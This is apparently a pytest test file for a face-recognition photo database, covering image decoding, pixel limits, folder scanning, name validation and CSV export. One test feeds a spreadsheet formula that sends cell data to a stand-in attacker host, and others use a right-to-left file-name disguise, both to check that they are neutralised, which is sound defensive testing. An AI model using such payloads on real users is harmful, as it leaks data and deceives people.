"""Pure functions and small parts: no models, no database."""

from __future__ import annotations

import io
import os
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pytest
from PIL import Image, ImageOps

from facedb.config import Settings
from facedb.db.codec import vector_literal
from facedb.db.database import normalise_url, safe_url
from facedb.errors import DatabaseUnavailable, ImageError
from facedb.files.images import decode, hamming, read_file
from facedb.files.scan import scan
from facedb.people.clustering import ClusterParams
from facedb.vision.weights import model_distances


def _encode(image: Image.Image, fmt: str, **kwargs) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **kwargs)
    return buffer.getvalue()


def test_settings_precedence(monkeypatch, tmp_path):
    assert Settings.load().threshold is None  # not set: the calibrated threshold, else DEFAULT_THRESHOLD
    assert ClusterParams.from_settings(Settings.load()).propose_threshold == model_distances().propose_threshold
    calibrated = ClusterParams.from_settings(Settings.load(), calibrated_who_threshold=1.05)
    assert calibrated.propose_threshold == pytest.approx(0.95)
    monkeypatch.setenv("FACEDB_THRESHOLD", "0.8")
    monkeypatch.setenv("FACEDB_HOME", str(tmp_path / "env-home"))
    monkeypatch.setenv("DATABASE_URL", "postgresql://u:secret@db/x")
    from_env = Settings.load()
    assert from_env.threshold == 0.8 and from_env.home == tmp_path / "env-home"
    assert from_env.database_url == "postgresql://u:secret@db/x"
    flags = Settings.load(threshold=0.7, home=str(tmp_path / "flag-home"), database_url=None)
    assert flags.threshold == 0.7 and flags.home == tmp_path / "flag-home"
    assert flags.database_url == "postgresql://u:secret@db/x"  # None means "flag not given"
    monkeypatch.setenv("FACEDB_THRESHOLD", "close")
    with pytest.raises(ValueError, match="threshold"):
        Settings.load()
    monkeypatch.delenv("FACEDB_THRESHOLD")
    assert Settings.load().read_face_tags is True
    for word, value in (("0", False), ("no", False), ("TRUE", True), ("on", True)):
        monkeypatch.setenv("FACEDB_READ_FACE_TAGS", word)
        assert Settings.load().read_face_tags is value
    monkeypatch.setenv("FACEDB_READ_FACE_TAGS", "maybe")
    with pytest.raises(ValueError, match="FACEDB_READ_FACE_TAGS.*'maybe' is not yes or no"):
        Settings.load()


def test_database_urls_normalised_and_passwords_hidden():
    assert normalise_url("postgres://u:pw@h:5433/d") == "postgresql+psycopg2://u:pw@h:5433/d"
    assert normalise_url("postgresql://u@h/d") == "postgresql+psycopg2://u@h/d"
    assert "pw" not in safe_url("postgresql://u:pw@h/d")
    with pytest.raises(DatabaseUnavailable, match="only PostgreSQL"):
        normalise_url("sqlite:///x.db")


def test_vector_literal_round_trips_float32():
    assert vector_literal(np.array([0.5, -1.0], np.float32)) == "[0.5,-1]"
    # values that 6 or 7 significant digits would not carry back bit for bit
    vector = np.random.default_rng(0).standard_normal(512).astype(np.float32) / np.float32(3.0)
    vector[:3] = [np.float32(0.1), np.nextafter(np.float32(1.0), np.float32(2.0)), np.float32(1e-38)]
    parsed = np.array([float(v) for v in vector_literal(vector)[1:-1].split(",")], dtype=np.float32)
    assert parsed.tobytes() == vector.tobytes()
    assert np.array([float(f"{v:.7g}") for v in vector], np.float32).tobytes() != vector.tobytes()  # the test can fail


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L", "LA", "P", "CMYK", "I;16", "I", "F", "1"])
def test_decode_any_mode_gives_rgb8(mode):
    base = Image.new("RGB", (40, 30), (200, 120, 40))
    image = base.convert(mode) if mode not in ("I;16", "I", "F") else Image.new(mode, (40, 30), 1000)
    fmt = {"CMYK": "TIFF", "I;16": "PNG", "I": "TIFF", "F": "TIFF"}.get(mode, "PNG")
    photo = decode(_encode(image, fmt))
    assert photo.rgb.shape == (30, 40, 3) and photo.rgb.dtype == np.uint8
    assert (photo.meta.width, photo.meta.height) == (40, 30)


def test_sixteen_bit_is_scaled_not_clipped():
    values = np.linspace(0, 65535, 64 * 8).reshape(8, 64).astype(np.uint16)
    photo = decode(_encode(Image.fromarray(values), "PNG"))
    assert photo.rgb.min() == 0 and photo.rgb.max() == 255


def test_transparent_pixels_become_white():
    image = Image.new("RGBA", (10, 10), (0, 0, 0, 0))
    assert (decode(_encode(image, "PNG")).rgb == 255).all()


def test_exif_orientation_is_applied():
    image = Image.new("RGB", (60, 20), (0, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # stored rotated: displayed after a 90° clockwise turn
    photo = decode(_encode(image, "JPEG", exif=exif))
    assert photo.rgb.shape[:2] == (60, 20)


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_turns_the_pixels_as_pillow_does(orientation):
    rng = np.random.default_rng(orientation)
    image = Image.fromarray(rng.integers(0, 256, (30, 70, 3), dtype=np.uint8))
    exif = Image.Exif()
    exif[0x0112] = orientation
    data = _encode(image, "PNG", exif=exif)
    expected = np.asarray(ImageOps.exif_transpose(Image.open(io.BytesIO(data))).convert("RGB"))
    photo = decode(data)
    assert np.array_equal(photo.rgb, expected)
    assert (photo.meta.width, photo.meta.height) == (expected.shape[1], expected.shape[0])


def test_a_photo_over_max_decoded_pixels_is_decoded_smaller_and_its_size_is_its_own():
    """Issue 27 (2): a 110 MP PNG held 1.4 GB while it decoded; past max_decoded_pixels a
    photo is decoded smaller (a JPEG while decoding), strip by strip without seams, and its
    meta keeps the photo's own upright size, which boxes are in."""
    rng = np.random.default_rng(0)
    small = rng.integers(0, 256, (75, 100, 3), dtype=np.uint8)
    image = Image.fromarray(small).resize((4000, 3000), Image.Resampling.BILINEAR)
    exif = Image.Exif()
    exif[0x0112] = 6  # sideways: shown 3000 wide, 4000 high
    for fmt in ("JPEG", "PNG"):
        data = _encode(image, fmt, exif=exif)
        full = decode(data)
        reduced = decode(data, max_decoded_pixels=1_000_000)
        assert (full.meta.width, full.meta.height) == (reduced.meta.width, reduced.meta.height) == (3000, 4000)
        height, width = reduced.rgb.shape[:2]
        assert width * height <= 1_000_000 and (width, height) == (866, 1154), fmt
        assert reduced.scale == pytest.approx(866 / 3000) and full.scale == 1.0
        whole = np.asarray(Image.fromarray(full.rgb).resize((width, height), Image.Resampling.BILINEAR), np.int16)
        assert np.abs(reduced.rgb.astype(np.int16) - whole).mean() < 2.0, fmt  # strips meet: no seams
        assert hamming(reduced.meta.phash, full.meta.phash) <= 4


def test_decoding_threads_keep_their_pixels_together_within_the_budget(monkeypatch):
    """However many threads decode at once, the pixels they decode together stay within the
    process's budget (a photo larger than it decodes alone)."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    from facedb.files import images

    budget = images.PixelBudget(3_000_000)
    monkeypatch.setattr(images, "DECODING", budget)
    seen, lock = set(), threading.Lock()
    original = budget.holding

    @contextmanager
    def watched(pixels):
        with original(pixels):
            with lock:
                seen.add(budget.in_use)
            yield

    monkeypatch.setattr(budget, "holding", watched)
    data = _encode(Image.new("RGB", (1500, 1000), (9, 9, 9)), "PNG")  # 1.5 MP each
    big = _encode(Image.new("RGB", (2500, 2000), (9, 9, 9)), "PNG")  # 5 MP: over the budget
    with ThreadPoolExecutor(8) as pool:
        shapes = list(pool.map(lambda d: decode(d).rgb.shape, [data] * 12 + [big] * 2 + [data] * 6))
    assert shapes == [(1000, 1500, 3)] * 12 + [(2000, 2500, 3)] * 2 + [(1000, 1500, 3)] * 6
    assert seen <= {1_500_000, 3_000_000, 5_000_000} and 5_000_000 in seen  # the big ones alone
    assert budget.in_use == 0


def test_exif_metadata_capture_time_camera_gps():
    image = Image.new("RGB", (16, 16))
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x0110] = "Canon EOS 5D"
    exif.get_ifd(0x8769)[0x9003] = "2019:07:04 12:30:05"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (48.0, 51.0, 29.0), "W", (2.0, 17.0, 40.0)
    meta = decode(_encode(image, "JPEG", exif=exif)).meta
    assert meta.camera == "Canon EOS 5D"
    assert meta.taken_at.isoformat() == "2019-07-04T12:30:05"
    assert meta.gps_lat == pytest.approx(48.858055, abs=1e-5) and meta.gps_lon == pytest.approx(-2.294444, abs=1e-5)


def test_pixel_limit_refuses_bombs():
    with pytest.raises(ImageError, match="decompression bomb|too many pixels"):
        decode(_encode(Image.new("L", (2000, 2000)), "PNG"), max_pixels=1_000_000)


def test_decode_leaves_process_wide_state_alone_and_is_safe_in_threads():
    """Each limit holds for its own call only, while other threads decode with other limits
    (decode used to set Image.MAX_IMAGE_PIXELS and warnings filters on every call)."""
    import threading
    import warnings

    big = _encode(Image.new("L", (2000, 2000)), "PNG")
    small = _encode(Image.new("RGB", (64, 64)), "PNG")
    decode(small)
    guard, filters = Image.MAX_IMAGE_PIXELS, list(warnings.filters)
    for limit in (1_000_000, 50_000_000, 4_000_000):
        try:
            decode(big, max_pixels=limit)
        except ImageError:
            pass
    assert (Image.MAX_IMAGE_PIXELS, warnings.filters) == (guard, filters)

    wrong: list[str] = []

    def worker(data: bytes, limit: int, refused: bool) -> None:
        for _ in range(30):
            try:
                decode(data, max_pixels=limit)
                outcome = False
            except ImageError:
                outcome = True
            if outcome != refused:
                wrong.append(f"{limit}: refused={outcome}")

    threads = [
        threading.Thread(target=worker, args=args)
        for args in [(big, 1_000_000, True), (big, 8_000_000, False), (small, 1_000, True), (small, 10_000, False)] * 2
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not wrong, wrong[:5]


def test_absurd_shapes_are_refused_before_decoding():
    with pytest.raises(ImageError, match="not a photo: 1x5000"):
        decode(_encode(Image.new("L", (1, 5000)), "PNG"))
    assert decode(_encode(Image.new("RGB", (4000, 500)), "JPEG")).rgb.shape == (500, 4000, 3)  # a panorama is fine


def test_unreadable_inputs_have_reasons(tmp_path):
    empty = tmp_path / "empty.jpg"
    empty.write_bytes(b"")
    with pytest.raises(ImageError, match="empty file"):
        read_file(empty)
    link = tmp_path / "dangling.jpg"
    link.symlink_to(tmp_path / "nowhere.jpg")
    with pytest.raises(ImageError, match="broken symbolic link"):
        read_file(link)
    with pytest.raises(ImageError, match="not an image"):
        decode(b"this is a text file, not a photo")
    truncated = _encode(Image.new("RGB", (200, 200), (9, 9, 9)), "JPEG")[:400]
    with pytest.raises(ImageError, match="truncated|cannot decode"):
        decode(truncated)


def test_scan_walks_folders_breaks_symlink_loops_and_names_problems(tmp_path):
    (tmp_path / "a" / "b").mkdir(parents=True)
    for name in ("a/one.jpg", "a/b/two.PNG", "a/notes.txt"):
        (tmp_path / name).write_bytes(b"x")
    (tmp_path / "a" / "b" / "loop").symlink_to(tmp_path / "a")
    os.symlink(b"/nowhere", os.path.join(os.fsencode(tmp_path), b"a/bad-\xff-name.jpg"))
    found = {Path(c.path).name: c.error for c in scan([tmp_path, tmp_path / "missing.jpg"])}
    assert found["one.jpg"] is None and found["two.PNG"] is None
    assert "notes.txt" not in found
    assert "not valid UTF-8" in found["bad-\\xff-name.jpg"]
    assert found["missing.jpg"] == "no such file or directory"
    assert len(found) == 4  # the loop was not followed round


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "TIFF", "BMP", "GIF", "HEIF", "AVIF"])
def test_every_promised_format_decodes(fmt):
    image = Image.new("RGB", (64, 48), (30, 160, 90))
    photo = decode(_encode(image, fmt))
    assert photo.rgb.shape == (48, 64, 3)
    assert np.abs(photo.rgb.astype(int) - (30, 160, 90)).max() < 12  # lossy formats are close


def test_permission_denied_is_a_reason(tmp_path, monkeypatch):
    locked = tmp_path / "locked.jpg"
    locked.write_bytes(b"x")
    locked.chmod(0)
    if os.access(locked, os.R_OK):  # root reads anything; make the OS answer as it would for a user
        real_open = os.open

        def refuse(path, *args, **kwargs):
            if os.fspath(path) == str(locked):
                raise PermissionError(13, "Permission denied", str(path))
            return real_open(path, *args, **kwargs)

        monkeypatch.setattr(os, "open", refuse)
    with pytest.raises(ImageError, match="permission denied"):
        read_file(locked)


_NATIVE_STDERR_SCRIPT = """
import os, sys
from facedb.vision import tfruntime
with tfruntime._native_stderr_held_back(unless=tfruntime.verbose()):
    os.write(2, b"WARNING: All log messages before absl::InitializeLog() is called are written to STDERR\\n")
    os.write(2, b"I0000 00:00:1796183464.007141   20435 port.cc:153] oneDNN custom operations are on.\\n")
    os.write(2, b"facedb: failed: /photos/x.jpg: cannot decode\\n")
    if len(sys.argv) > 1:
        raise SystemExit("import failed")
"""


@pytest.mark.parametrize("verbose, fails", [(False, False), (True, False), (False, True)])
def test_tensorflow_start_up_lines_are_held_back_unless_verbose(verbose, fails):
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-c", _NATIVE_STDERR_SCRIPT, *(["fail"] if fails else [])],
        capture_output=True,
        text=True,
        env={**os.environ, "FACEDB_VERBOSE": "1" if verbose else ""},
    )
    assert "facedb: failed: /photos/x.jpg: cannot decode" in done.stderr  # other output is kept
    assert ("absl::" in done.stderr) == ("oneDNN" in done.stderr) == (verbose or fails), done.stderr


def test_results_round_only_when_written_out():
    """A distance just over the threshold is unknown although its JSON shows the threshold."""
    from facedb.results import FaceAnswer, IdentityMatch

    match = IdentityMatch(
        identity_id=7, name=None, distance=0.80004, faces_within_threshold=0, faces=3, source="enrolled"
    )
    face = FaceAnswer(box=(10.04, 20.06, 30.0, 40.0), score=0.999949, candidates=[match], threshold=0.8)
    assert face.identity is None and face.unknown and face.distance == 0.80004
    shown = face.to_json()
    assert shown["distance"] == shown["candidates"][0]["distance"] == 0.8 and shown["unknown"] is True
    assert shown["box"] == [10.0, 20.1, 30.0, 40.0] and shown["score"] == 0.9999
    assert "threshold" not in shown
    near = FaceAnswer(
        box=(0, 0, 1, 1), score=1.0, candidates=[match.model_copy(update={"distance": 0.79})], threshold=0.8
    )
    assert near.identity == "person #7" and near.to_json()["identity"] == "person #7"


def test_second_looks_share_a_pixel_budget():
    """Full-resolution looks run together while their pixels fit the budget; a look larger
    than what is left waits, and one larger than the whole budget runs alone."""
    import threading

    from facedb.files.images import PixelBudget

    budget = PixelBudget(12)
    with budget.holding(5), budget.holding(5):  # both fit: neither waits
        assert budget.in_use == 10
        entered = threading.Event()

        def big() -> None:
            with budget.holding(30):  # over the whole budget: waits until nothing else runs
                entered.set()

        waiting = threading.Thread(target=big)
        waiting.start()
        assert not entered.wait(0.2)
    assert entered.wait(5)
    waiting.join()
    assert budget.in_use == 0


def test_the_crop_is_black_where_the_margin_runs_past_the_edge_and_keeps_the_faces_scale():
    from facedb.faces import Detection
    from facedb.vision.align import crop_face

    rgb = np.full((100, 100, 3), 200, np.uint8)
    face = Detection((0.0, 0.0, 100.0, 100.0), ((0.0, 0.0),) * 5, 1.0)  # type: ignore[arg-type]  # fills the photo
    crop = crop_face(rgb, face, margin=0.2, size=140)  # 140 px across 0.2 + 1 + 0.2 boxes: 20 px a margin
    assert crop.shape == (140, 140, 3)
    assert crop[:18].max() == 0 and crop[:, :18].max() == 0 and crop[122:].max() == 0 and crop[:, 122:].max() == 0
    assert crop[22:118, 22:118].min() == 200  # the photo, at its own scale, in the middle
    inside = Detection((40.0, 40.0, 20.0, 20.0), ((0.0, 0.0),) * 5, 1.0)  # type: ignore[arg-type]
    assert crop_face(rgb, inside).min() == 200  # a face well inside: no black


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted():
    import csv

    from facedb.dedup.report_files import write_csv

    people = [
        {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
        {"id": 2, "name": "+1 555"},
        {"id": 3, "name": "-2+3"},
        {"id": 4, "name": "@SUM(A1)"},
        {"id": 5, "name": "\tTab"},
        {"id": 6, "name": "Ada Lovelace"},
    ]
    group = {"tier": 5, "kind": "same person", "id": 1, "keep": 1, "reason": "r", "evidence": [], "people": people}
    out = io.StringIO()
    write_csv({"groups": [group]}, out)
    names = [row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert names == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1 555",
        "'-2+3",
        "'@SUM(A1)",
        "'\tTab",
        "Ada Lovelace",
    ]


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("  Ada Lovelace ", "Ada Lovelace"),
        ("\u200b Ada \u200b", "Ada"),  # invisible format characters at the ends are trimmed
        ("Ma\u200chsa", "Ma\u200chsa"),  # Persian names are written with U+200C inside
        ("Agent 47", "Agent 47"),
        ("3D Artist", "3D Artist"),
        ("x" * 200, "x" * 200),
    ],
)
def test_a_name_is_trimmed_and_kept(given, stored):
    from facedb.names import person_name

    assert person_name(given) == stored


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("", "empty"),
        ("\u200b", "invisible"),
        ("\u200b\u2060\ufeff", "invisible"),
        ("x" * 201, "at most 200"),
        ("y" * 100_000, "at most 200"),
        ("evil\u202etxt.exe", "reverse or break the line"),
        ("Ada\u2028Bob", "reverse or break the line"),
        ("Ada\u2067x", "reverse or break the line"),
        ("Ada\rBob", "control characters"),
        ("5", "look like a person's id"),
        ("#3", "look like a person's id"),
        ("##12", "look like a person's id"),
    ],
)
def test_a_name_that_hides_breaks_or_looks_like_an_id_is_refused(given, why):
    from facedb.errors import FaceDBError
    from facedb.names import person_name

    with pytest.raises(FaceDBError, match=why) as refused:
        person_name(given)
    assert "\n" not in str(refused.value) and len(str(refused.value)) < 200


def test_export_and_import_summaries_count_in_english():
    from facedb.cli.admin import _counted

    assert _counted({"photo": 1, "face": 3, "identity": 2, "assignment": 0}) == (
        "1 photo, 3 faces, 2 identities, 0 assignments"
    )


def test_thumbnails_are_webp_and_older_jpeg_ones_are_still_served_as_jpeg():
    from facedb.vision.align import thumbnail, thumbnail_media_type

    crop = np.random.default_rng(3).integers(0, 256, (160, 160, 3), dtype=np.uint8)
    made = thumbnail(crop)
    assert thumbnail_media_type(made) == "image/webp" and Image.open(io.BytesIO(made)).size == (96, 96)
    older = _encode(Image.fromarray(crop).resize((96, 96)), "JPEG", quality=85)
    assert thumbnail_media_type(older) == "image/jpeg"


def test_each_model_brings_its_own_distances():
    """Thresholds, clustering and dedup's face distances come from the model's manifest entry;
    settings override them; made without a model they are the default model's."""
    from facedb.dedup.tiers import DedupThresholds
    from facedb.people.clustering import ClusterParams

    tutorial = model_distances("20170512-110547")
    assert DedupThresholds() == DedupThresholds.for_model("20180408-102900") == DedupThresholds.for_model()
    assert DedupThresholds.for_model("20170512-110547").same_face_distance == tutorial.same_face_distance
    params = ClusterParams.from_settings(Settings.load(), "20170512-110547")
    assert (params.eps, params.propose_threshold, params.same_face_distance) == (
        tutorial.cluster_eps,
        tutorial.propose_threshold,
        tutorial.same_face_distance,
    )
    assert ClusterParams.from_settings(Settings.load(cluster_eps=0.7), "20170512-110547").eps == 0.7
    calibrated = ClusterParams.from_settings(Settings.load(), "20170512-110547", calibrated_who_threshold=0.9)
    assert calibrated.propose_threshold == pytest.approx(0.9 - (tutorial.threshold - tutorial.propose_threshold))
    assert ClusterParams() == ClusterParams.from_settings(Settings.load())


def test_an_installed_facedb_finds_its_own_migrations_not_alembic_itself(tmp_path, monkeypatch):
    """In site-packages the folder beside facedb/ named alembic/ is the Alembic library; the
    migrations and the manifest a wheel installs are under facedb/_schema/ (pyproject.toml)."""
    from facedb.db import database
    from facedb.vision import weights

    site = tmp_path / "site-packages"
    (site / "alembic").mkdir(parents=True)
    (site / "alembic" / "__init__.py").write_text("")
    (site / "models").mkdir()
    (site / "models" / "manifest.json").write_text("{}")  # some other package's
    for name in ("alembic", "migrations", "models"):
        (site / "facedb" / "_schema" / name).mkdir(parents=True)
    (site / "facedb" / "_schema" / "models" / "manifest.json").write_text("{}")
    monkeypatch.setattr(database, "_PACKAGE_DIR", site / "facedb")
    monkeypatch.setattr(weights, "_PACKAGE_DIR", site / "facedb")
    assert database._schema_dir("alembic") == site / "facedb" / "_schema" / "alembic"
    assert database._schema_dir("migrations") == site / "facedb" / "_schema" / "migrations"
    assert weights._manifest_path() == site / "facedb" / "_schema" / "models" / "manifest.json"

    checkout = tmp_path / "checkout"  # an editable install: no _schema/, the repository's folders
    for name in ("alembic", "migrations", "models", "facedb"):
        (checkout / name).mkdir(parents=True)
    (checkout / "models" / "manifest.json").write_text("{}")
    monkeypatch.setattr(database, "_PACKAGE_DIR", checkout / "facedb")
    monkeypatch.setattr(weights, "_PACKAGE_DIR", checkout / "facedb")
    assert database._schema_dir("alembic") == checkout / "alembic"
    assert weights._manifest_path() == checkout / "models" / "manifest.json"
